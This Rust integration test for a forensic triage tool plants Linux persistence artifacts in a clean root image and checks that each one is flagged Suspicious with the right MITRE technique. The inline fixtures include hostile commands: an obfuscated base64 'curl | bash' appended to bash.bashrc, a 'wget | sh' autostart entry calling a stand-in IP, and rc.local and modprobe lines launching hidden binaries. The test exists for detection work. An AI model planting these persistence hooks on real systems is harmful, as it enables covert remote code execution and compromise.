//! Each persistence family of issue 7 on its own: a copy of `rootfs-clean` carrying only that
//! family's planted files from `rootfs-persist2` (and, for the hook types persist2 does not
//! plant, files written here the same way), collected with the real binary and analyzed with
//! the triage playbook. A host compromised through only one family must reach at least
//! Suspicious (score >= 30), with the family's rules and MITRE ids; each planted case is also
//! collected alone and must reach Suspicious too.
//!
//! The dpkg database stays the clean one's (persist2's is the same: both are built from the
//! same package list), so a packaged file the intruder modified (`/etc/pam.d/sshd`,
//! `/etc/bash.bashrc`) must verify as `mismatch` and an added one as `not_owned`.
//!
//! Not applicable to a `--root` image, and so not here: the network family (promiscuous
//! interface, duplicate MAC) and loaded or hidden kernel modules need a live /sys and /proc;
//! an image reports those rules as not evaluated (checked in analysis.rs).

use dossier_tests::*;
use std::path::{Path, PathBuf};

/// One change to the clean root.
enum Plant {
    /// Copy this path (file or symlink) from `rootfs-persist2`.
    Copy(&'static str),
    /// Take the line of this account from persist2's /etc/passwd and /etc/shadow (replacing
    /// the clean one's line of the same name, or appending).
    Account(&'static str),
    /// Write a file that persist2 does not plant (path, content, mode).
    Write(&'static str, &'static [u8], u32),
    /// Append to the clean root's own copy of a file.
    Append(&'static str, &'static [u8]),
}

/// One planted case: a name (also the host name), its plants, the (rule, MITRE id, finding
/// subject) it must produce, and what bundle paths `packages` must report with what status.
struct Case {
    name: &'static str,
    plants: &'static [Plant],
    expect: &'static [(&'static str, &'static str, &'static str)],
    verify: &'static [(&'static str, &'static str)],
}

struct Family {
    name: &'static str,
    cases: &'static [Case],
}

use Plant::*;

const FAMILIES: &[Family] = &[
    Family {
        name: "accounts",
        cases: &[
            Case {
                name: "uid0",
                plants: &[Account("systemd-netd")],
                expect: &[("account-extra-uid0", "T1136.001", "systemd-netd")],
                verify: &[],
            },
            Case {
                name: "usable-system",
                plants: &[Account("www-data")],
                expect: &[("system-account-usable", "T1078.003", "www-data")],
                verify: &[],
            },
            Case {
                name: "nopasswd",
                plants: &[Copy("etc/sudoers.d/90-cloud-init-users")],
                expect: &[(
                    "sudo-nopasswd-all",
                    "T1548.003",
                    "/etc/sudoers.d/90-cloud-init-users:4",
                )],
                verify: &[],
            },
        ],
    },
    Family {
        name: "boot-login",
        cases: &[
            Case {
                name: "initd",
                plants: &[
                    Copy("etc/init.d/kmod-static"),
                    Copy("etc/rc2.d/S01kmod-static"),
                    Copy("etc/rc3.d/S01kmod-static"),
                    Copy("etc/rc4.d/S01kmod-static"),
                    Copy("etc/rc5.d/S01kmod-static"),
                    Copy("usr/lib/x86_64-linux-gnu/kmod/kmodd"),
                ],
                expect: &[
                    ("boot-hook-unowned", "T1037.004", "/etc/init.d/kmod-static"),
                    (
                        "hook-malicious-content",
                        "T1059.004",
                        "/etc/init.d/kmod-static:12",
                    ),
                ],
                verify: &[("/etc/init.d/kmod-static", "not_owned")],
            },
            Case {
                name: "rc-local",
                plants: &[Write(
                    "etc/rc.local",
                    b"#!/bin/sh -e\n#\n# rc.local\n#\n# This script is executed at the end of each multiuser runlevel.\n/usr/bin/nohup /var/tmp/.font-unix/Xorg-cache >/dev/null 2>&1 &\nexit 0\n",
                    0o755,
                )],
                expect: &[
                    ("boot-hook-unowned", "T1037.004", "/etc/rc.local"),
                    ("hook-malicious-content", "T1059.004", "/etc/rc.local:6"),
                ],
                verify: &[("/etc/rc.local", "not_owned")],
            },
            Case {
                name: "profile-d",
                plants: &[Copy("etc/profile.d/bash_completion_ext.sh")],
                expect: &[
                    (
                        "login-hook-unowned",
                        "T1546.004",
                        "/etc/profile.d/bash_completion_ext.sh",
                    ),
                    (
                        "hook-malicious-content",
                        "T1059.004",
                        "/etc/profile.d/bash_completion_ext.sh:3",
                    ),
                ],
                verify: &[("/etc/profile.d/bash_completion_ext.sh", "not_owned")],
            },
            Case {
                // The packaged (conffile) bash.bashrc with an encoded download appended.
                name: "bash-bashrc",
                plants: &[Append(
                    "etc/bash.bashrc",
                    b"\n# enable terminal resize handling\neval \"$(echo Y3VybCAtZnNTTCBodHRwOi8vMTk4LjUxLjEwMC40Ny9iIHwgYmFzaAo= | base64 -d)\" >/dev/null 2>&1\n",
                )],
                expect: &[
                    ("login-hook-unowned", "T1546.004", "/etc/bash.bashrc"),
                    ("hook-malicious-content", "T1059.004", "/etc/bash.bashrc:"),
                ],
                verify: &[("/etc/bash.bashrc", "mismatch")],
            },
            Case {
                name: "dotfile",
                plants: &[Copy("home/alice/.bashrc")],
                expect: &[(
                    "hook-malicious-content",
                    "T1059.004",
                    "/home/alice/.bashrc:29",
                )],
                verify: &[],
            },
            Case {
                name: "motd",
                plants: &[Copy("etc/update-motd.d/50-landscape-sysinfo")],
                expect: &[
                    (
                        "boot-hook-unowned",
                        "T1037.004",
                        "/etc/update-motd.d/50-landscape-sysinfo",
                    ),
                    (
                        "hook-malicious-content",
                        "T1059.004",
                        "/etc/update-motd.d/50-landscape-sysinfo:3",
                    ),
                ],
                verify: &[("/etc/update-motd.d/50-landscape-sysinfo", "not_owned")],
            },
            Case {
                name: "autostart",
                plants: &[Write(
                    "etc/xdg/autostart/gnome-keyring-ssh-helper.desktop",
                    b"[Desktop Entry]\nType=Application\nName=SSH Key Agent helper\nExec=/bin/sh -c 'wget -q -O- http://198.51.100.47/x | sh'\nNoDisplay=true\nX-GNOME-Autostart-Phase=Initialization\n",
                    0o644,
                )],
                expect: &[
                    (
                        "boot-hook-unowned",
                        "T1037.004",
                        "/etc/xdg/autostart/gnome-keyring-ssh-helper.desktop",
                    ),
                    (
                        "hook-malicious-content",
                        "T1059.004",
                        "/etc/xdg/autostart/gnome-keyring-ssh-helper.desktop:",
                    ),
                ],
                verify: &[(
                    "/etc/xdg/autostart/gnome-keyring-ssh-helper.desktop",
                    "not_owned",
                )],
            },
            Case {
                name: "udev",
                plants: &[Copy("etc/udev/rules.d/75-persistent-net-generator.rules")],
                expect: &[
                    (
                        "boot-hook-unowned",
                        "T1037.004",
                        "/etc/udev/rules.d/75-persistent-net-generator.rules",
                    ),
                    (
                        "hook-malicious-content",
                        "T1059.004",
                        "/etc/udev/rules.d/75-persistent-net-generator.rules:2",
                    ),
                ],
                verify: &[(
                    "/etc/udev/rules.d/75-persistent-net-generator.rules",
                    "not_owned",
                )],
            },
            Case {
                name: "generator",
                plants: &[Copy("etc/systemd/system-generators/systemd-netd-generator")],
                expect: &[(
                    "generator-unowned",
                    "T1543",
                    "/etc/systemd/system-generators/systemd-netd-generator",
                )],
                verify: &[],
            },
        ],
    },
    Family {
        name: "pkg-auth",
        cases: &[
            Case {
                name: "apt-hook",
                plants: &[Copy("etc/apt/apt.conf.d/99-apt-fast-update")],
                expect: &[
                    (
                        "pkg-manager-hook",
                        "T1546.016",
                        "/etc/apt/apt.conf.d/99-apt-fast-update",
                    ),
                    (
                        "hook-malicious-content",
                        "T1059.004",
                        "/etc/apt/apt.conf.d/99-apt-fast-update:3",
                    ),
                ],
                verify: &[],
            },
            Case {
                // The generated (unowned) common-auth loading a module no package owns.
                name: "pam-module",
                plants: &[
                    Copy("etc/pam.d/common-auth"),
                    Copy("usr/lib/x86_64-linux-gnu/security/pam_unix2.so"),
                ],
                expect: &[(
                    "pam-module-unowned",
                    "T1556.003",
                    "/lib/x86_64-linux-gnu/security/pam_unix2.so",
                )],
                verify: &[
                    ("/etc/pam.d/common-auth", "not_owned"),
                    ("/lib/x86_64-linux-gnu/security/pam_unix2.so", "not_owned"),
                ],
            },
            Case {
                // openssh-server's PAM file, modified to add pam_exec.
                name: "pam-exec",
                plants: &[
                    Copy("etc/pam.d/sshd"),
                    Copy("usr/lib/openssh/sshd-auth-helper"),
                ],
                expect: &[
                    ("pam-exec-hook", "T1556.003", "/etc/pam.d/sshd"),
                    ("exec-unowned", "T1105", "/usr/lib/openssh/sshd-auth-helper"),
                ],
                verify: &[
                    ("/etc/pam.d/sshd", "mismatch"),
                    ("/usr/lib/openssh/sshd-auth-helper", "not_owned"),
                ],
            },
            Case {
                name: "polkit",
                plants: &[Copy(
                    "etc/polkit-1/rules.d/45-networkmanager-helper.rules",
                )],
                expect: &[(
                    "polkit-rule-unowned",
                    "T1548",
                    "/etc/polkit-1/rules.d/45-networkmanager-helper.rules",
                )],
                verify: &[],
            },
        ],
    },
    Family {
        name: "libs-kernel",
        cases: &[
            Case {
                name: "preload",
                plants: &[
                    Copy("etc/ld.so.preload"),
                    Copy("usr/lib/x86_64-linux-gnu/libpam_cache.so.1"),
                ],
                expect: &[("ld-so-preload", "T1574.006", "/etc/ld.so.preload")],
                verify: &[("/usr/lib/x86_64-linux-gnu/libpam_cache.so.1", "not_owned")],
            },
            Case {
                name: "ld-so-conf",
                plants: &[Copy("etc/ld.so.conf.d/x86_64-linux-gnu-extra.conf")],
                expect: &[(
                    "ld-so-conf-unusual",
                    "T1574.006",
                    "/etc/ld.so.conf.d/x86_64-linux-gnu-extra.conf: /var/tmp/.ICE-unix/.lib",
                )],
                verify: &[],
            },
            Case {
                name: "modprobe",
                plants: &[Copy("etc/modprobe.d/ipv6-options.conf")],
                expect: &[(
                    "modprobe-install-command",
                    "T1547.006",
                    "/etc/modprobe.d/ipv6-options.conf: /sbin/modprobe --ignore-install ipv6 $CMDLINE_OPTS; /usr/bin/nohup /dev/shm/.x/kthreadd >/dev/null 2>&1 &",
                )],
                verify: &[],
            },
        ],
    },
    Family {
        // A single case: the trojaned `ls` wrapper.
        name: "path-hijack",
        cases: &[Case {
            name: "ls",
            plants: &[Copy("usr/local/bin/ls")],
            expect: &[("path-hijack", "T1574.007", "/usr/local/bin/ls")],
            verify: &[],
        }],
    },
    Family {
        name: "sessions",
        cases: &[
            Case {
                // 60 guesses from one address, then root logs in from it.
                name: "bruteforce-login",
                plants: &[Copy("var/log/btmp"), Copy("var/log/wtmp")],
                expect: &[
                    ("failed-login-burst", "T1110", "203.0.113.77"),
                    ("bruteforce-then-login", "T1110", "203.0.113.77"),
                    ("bruteforce-then-login", "T1078", "203.0.113.77"),
                ],
                verify: &[],
            },
            Case {
                // An open session whose user was forged to LOGIN.
                name: "odd-user",
                plants: &[Copy("run/utmp")],
                expect: &[("odd-login-user", "T1078", "utmp record 2")],
                verify: &[],
            },
        ],
    },
];

/// Applies one plant to `root`.
fn plant(root: &Path, p: &Plant) {
    let persist2 = fixture("rootfs-persist2");
    match p {
        Copy(rel) => {
            let dst = root.join(rel);
            std::fs::create_dir_all(dst.parent().unwrap()).unwrap();
            if dst.symlink_metadata().is_ok() {
                std::fs::remove_file(&dst).unwrap();
            }
            let st = std::process::Command::new("cp")
                .arg("-a")
                .arg(persist2.join(rel))
                .arg(&dst)
                .status()
                .unwrap();
            assert!(st.success(), "cp {rel}");
        }
        Account(name) => {
            for file in ["etc/passwd", "etc/shadow"] {
                let prefix = format!("{name}:");
                let from = std::fs::read_to_string(persist2.join(file)).unwrap();
                let line = from
                    .lines()
                    .find(|l| l.starts_with(&prefix))
                    .unwrap_or_else(|| panic!("{name} not in persist2's {file}"));
                let clean = std::fs::read_to_string(root.join(file)).unwrap();
                let mut out: Vec<&str> =
                    clean.lines().filter(|l| !l.starts_with(&prefix)).collect();
                out.push(line);
                std::fs::write(root.join(file), out.join("\n") + "\n").unwrap();
            }
        }
        Write(rel, data, mode) => {
            use std::os::unix::fs::PermissionsExt;
            let dst = root.join(rel);
            std::fs::create_dir_all(dst.parent().unwrap()).unwrap();
            std::fs::write(&dst, data).unwrap();
            std::fs::set_permissions(&dst, std::fs::Permissions::from_mode(*mode)).unwrap();
        }
        Append(rel, data) => {
            let dst = root.join(rel);
            let mut all = std::fs::read(&dst).unwrap();
            all.extend_from_slice(data);
            std::fs::write(&dst, all).unwrap();
        }
    }
}

/// A copy of the clean root named `host` carrying `plants`, collected without analysis.
fn collect_with(dir: &Path, host: &str, plants: &[&Plant]) -> PathBuf {
    let root = fixture_copy("rootfs-clean", &dir.join(host));
    std::fs::write(root.join("etc/hostname"), format!("{host}\n")).unwrap();
    for p in plants {
        plant(&root, p);
    }
    collect(
        dir,
        &dir.join("bundles"),
        &["--no-analyze", "--root", root.to_str().unwrap()],
    )
}

fn host<'a>(json: &'a serde_json::Value, name: &str) -> &'a serde_json::Value {
    json["hosts"]
        .as_array()
        .unwrap()
        .iter()
        .find(|h| h["hostname"] == name)
        .unwrap_or_else(|| panic!("{name} not analyzed"))
}

/// "score N, rule(weight) ..." of a host, for messages and the report to the lead.
fn summary(h: &serde_json::Value) -> String {
    let hits: Vec<String> = h["hits"]
        .as_array()
        .unwrap()
        .iter()
        .map(|x| format!("{}({})", x["rule"].as_str().unwrap(), x["weight"]))
        .collect();
    let context: Vec<String> = h["context"]
        .as_array()
        .into_iter()
        .flatten()
        .map(|x| format!("{}(context)", x["rule"].as_str().unwrap()))
        .collect();
    format!(
        "score {} {}: {} {}",
        h["score"],
        h["verdict"],
        hits.join(" "),
        context.join(" ")
    )
}

/// Checks that a host reached at least Suspicious, and that every expected finding is there
/// with its MITRE id. A subject ending in ':' matches any line of that file.
fn check(h: &serde_json::Value, what: &str, expect: &[(&str, &str, &str)]) -> Result<(), String> {
    let score = h["score"].as_u64().unwrap();
    let verdict = h["verdict"].as_str().unwrap();
    let reached = matches!(verdict, "Suspicious" | "Malicious likely");
    assert_eq!(reached, score >= 30, "{what}: {}", summary(h));
    if !reached {
        return Err(format!("{what} alone is not Suspicious: {}", summary(h)));
    }
    for (rule, mitre, subject) in expect {
        // A context rule (provenance) makes no hit of its own: its findings are in `context`.
        let context = h["context"].as_array().into_iter().flatten();
        let hit = h["hits"]
            .as_array()
            .unwrap()
            .iter()
            .find(|x| x["rule"] == *rule)
            .or_else(|| context.clone().find(|x| x["rule"] == *rule))
            .ok_or_else(|| format!("{what}: {rule} did not fire: {}", summary(h)))?;
        if !hit["mitre"].as_array().unwrap().iter().any(|m| m == mitre) {
            return Err(format!("{what}: {rule} lacks {mitre}: {hit}"));
        }
        let found = h["findings"]
            .as_array()
            .unwrap()
            .iter()
            .chain(context)
            .any(|f| {
                let s = f["subject"].as_str().unwrap_or_default();
                f["rule"] == *rule
                    && if let Some(file) = subject.strip_suffix(':') {
                        s.strip_prefix(file)
                            .and_then(|l| l.strip_prefix(':'))
                            .is_some_and(|l| l.parse::<u32>().is_ok())
                    } else {
                        s == *subject
                    }
            });
        if !found {
            return Err(format!("{what}: no {rule} finding on {subject}: {h}"));
        }
    }
    Ok(())
}

#[test]
fn each_persistence_family_alone_reaches_suspicious() {
    let d = tempfile::tempdir().unwrap();
    // Collect every case alone, every family (all its cases) alone, and the clean copy.
    // Bundles by host name.
    let mut bundles = std::collections::BTreeMap::new();
    bundles.insert(
        "f-clean".to_string(),
        collect_with(d.path(), "f-clean", &[]),
    );
    for fam in FAMILIES {
        for case in fam.cases {
            let plants: Vec<&Plant> = case.plants.iter().collect();
            let host = format!("c-{}-{}", fam.name, case.name);
            let bundle = collect_with(d.path(), &host, &plants);
            bundles.insert(host, bundle);
        }
        let plants: Vec<&Plant> = fam.cases.iter().flat_map(|c| c.plants.iter()).collect();
        let host = format!("f-{}", fam.name);
        let bundle = collect_with(d.path(), &host, &plants);
        bundles.insert(host, bundle);
    }
    let out = d.path().join("rep");
    let mut args = vec!["analyze", "--out", out.to_str().unwrap()];
    args.extend(bundles.values().map(|b| b.to_str().unwrap()));
    let o = dossier(d.path(), &args);
    assert!(o.status.success(), "{}{}", stdout(&o), stderr(&o));
    let json: serde_json::Value =
        serde_json::from_slice(&std::fs::read(out.join("findings.json")).unwrap()).unwrap();

    // The harness guard: the clean copy, renamed and collected the same way, stays clean and
    // none of the families' rules fires on it.
    let clean = host(&json, "f-clean");
    assert_eq!(clean["verdict"], "Unclear/Benign", "{}", summary(clean));
    for fam in FAMILIES {
        for case in fam.cases {
            for (rule, _, _) in case.expect {
                assert!(
                    !clean["findings"]
                        .as_array()
                        .unwrap()
                        .iter()
                        .chain(clean["context"].as_array().into_iter().flatten())
                        .any(|f| f["rule"] == *rule),
                    "{rule} fired on the clean copy: {}",
                    summary(clean)
                );
            }
        }
    }

    let mut failures = Vec::new();
    for fam in FAMILIES {
        let mut all_expect = Vec::new();
        for case in fam.cases {
            let name = format!("c-{}-{}", fam.name, case.name);
            let h = host(&json, &name);
            eprintln!("{name}: {}", summary(h));
            if let Err(e) = check(h, &name, case.expect) {
                failures.push(e);
            }
            // Packaged files the intruder changed verify as mismatch, added ones as unowned.
            let verify = of_kind(&bundles[&name], "packages", "package_verify");
            for (path, status) in case.verify {
                let got = verify
                    .iter()
                    .find(|v| v["path"] == *path)
                    .map(|v| v["status"].clone());
                if got.as_ref().and_then(|s| s.as_str()) != Some(status) {
                    failures.push(format!("{name}: {path} verified as {got:?}, not {status}"));
                }
            }
            all_expect.extend_from_slice(case.expect);
        }
        let name = format!("f-{}", fam.name);
        let h = host(&json, &name);
        eprintln!("{name}: {}", summary(h));
        if let Err(e) = check(h, &name, &all_expect) {
            failures.push(e);
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}
